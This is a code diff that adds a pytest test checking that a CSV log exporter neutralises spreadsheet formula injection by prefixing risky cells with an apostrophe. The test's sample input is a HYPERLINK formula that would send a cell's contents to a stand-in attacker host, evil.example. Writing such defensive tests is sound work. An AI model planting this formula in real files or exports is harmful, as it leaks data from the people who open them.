@@ -200,6 +200,19 @@ def test_csv_and_jsonl_exports_round_trip(fake_provider, photo, tmp_path, log_pa
     assert [json.loads(line) for line in lines] == everything
 
 
+def test_csv_export_defuses_cells_a_spreadsheet_would_run_as_formulas(fake_provider, tmp_path):
+    formula = '=HYPERLINK("http://evil.example/?"&A1, "click")'  # e.g. an API caller's provider name
+    with pytest.raises(gr.Error):
+        list(completion.chat("hello", [], formula, "", "", 64, 0.7, 1.0, -1))
+    chat("-1 is the answer")
+    run_log.export_csv(tmp_path / "runs.csv")
+    with open(tmp_path / "runs.csv", newline="", encoding="utf-8") as f:
+        rows = list(csv.DictReader(f))
+    assert {row["provider"] for row in rows} == {"'" + formula, "fake"}
+    assert {row["output"] for row in rows} == {"", json.dumps("echo: -1 is the answer")}  # no formula: as it was
+    assert run_log._csv_cell("-2") == "'-2" and run_log._csv_cell(-2) == -2 and run_log._csv_cell("a=b") == "a=b"
+
+
 def test_export_endpoint_writes_a_file_gradio_may_serve(fake_provider, photo):
     run_every_tab(photo)
     path = pathlib.Path(history.export("JSONL"))
